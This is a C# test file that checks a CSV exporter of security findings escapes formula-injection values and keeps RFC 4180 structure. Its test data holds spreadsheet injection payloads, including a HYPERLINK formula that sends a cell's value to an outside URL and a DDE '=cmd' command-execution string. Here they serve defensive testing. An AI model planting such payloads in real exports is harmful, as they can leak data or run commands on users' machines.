using Qrie.Silo.Exports;

namespace Qrie.Silo.Tests.Exports;

public sealed class CsvFormatTests
{
    private static readonly CsvFormat Format = new();

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.com?\"&A1)")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData(" =1+1")]
    [InlineData("＝1+1")]
    public void A_value_is_never_a_formula(string hostile)
    {
        var cell = Parse(Rows.Text(Format, Rows.Row(message: hostile)))[1][14];

        cell.Should().Be("'" + hostile);
    }

    [Fact]
    public void None_is_a_formula_in_any_column_that_a_stranger_has_a_say_in()
    {
        const string hostile = "=cmd|' /C calc'!A0";
        var row = Rows.Row();
        row = row with
        {
            Arn = hostile, Service = hostile, AccountId = hostile, Region = hostile, Type = hostile,
            Finding = row.Finding with
            {
                PolicyId = hostile, Message = hostile, Evidence = hostile,
                Cause = row.Finding.Cause! with { EventId = hostile, EventName = hostile, Principal = hostile, SourceIp = hostile },
            },
        };

        var cells = Parse(Rows.Text(Format, row))[1];

        cells.Count(cell => cell == "'" + hostile).Should().Be(12);
        cells.Should().OnlyContain(cell => cell.Length == 0 || char.IsAsciiLetterOrDigit(cell[0]) || cell.StartsWith('\''));
    }

    [Theory]
    [InlineData("plain")]
    [InlineData("a,b")]
    [InlineData("say \"so\"")]
    [InlineData("two\r\nlines")]
    [InlineData("ends in a quote\"")]
    [InlineData("naïve 😀")]
    public void A_value_comes_back_as_it_went(string value) =>
        Parse(Rows.Text(Format, Rows.Row(message: value)))[1][14].Should().Be(value);

    [Fact]
    public void Every_line_has_every_column()
    {
        var lines = Parse(Rows.Text(Format, Rows.Variety()));

        lines.Should().HaveCount(Rows.Variety().Count() + 1).And.OnlyContain(line => line.Count == 21);
        lines[1].Zip(lines[0]).Should().Contain(("90", "severity")).And.Contain(("critical", "band")).And.Contain(("2026-03-04T05:06:07.000000Z", "opened_at"));
    }

    // RFC 4180, section 2.
    private static List<List<string>> Parse(string text)
    {
        text.Should().EndWith("\r\n");
        var (lines, line, cell, quoted) = (new List<List<string>>(), new List<string>(), new System.Text.StringBuilder(), false);
        for (var i = 0; i < text.Length; i++)
        {
            if (quoted && text[i] == '"' && i + 1 < text.Length && text[i + 1] == '"')
            {
                cell.Append('"');
                i++;
            }
            else if (text[i] == '"')
            {
                (quoted || cell.Length == 0).Should().BeTrue("a quote begins or ends a field");
                quoted = !quoted;
            }
            else if (!quoted && text[i] == ',')
            {
                line.Add(cell.ToString());
                cell.Clear();
            }
            else if (!quoted && text[i] == '\r')
            {
                text[++i].Should().Be('\n');
                line.Add(cell.ToString());
                cell.Clear();
                lines.Add(line);
                line = [];
            }
            else
            {
                cell.Append(text[i]);
            }
        }

        quoted.Should().BeFalse();
        return lines;
    }
}
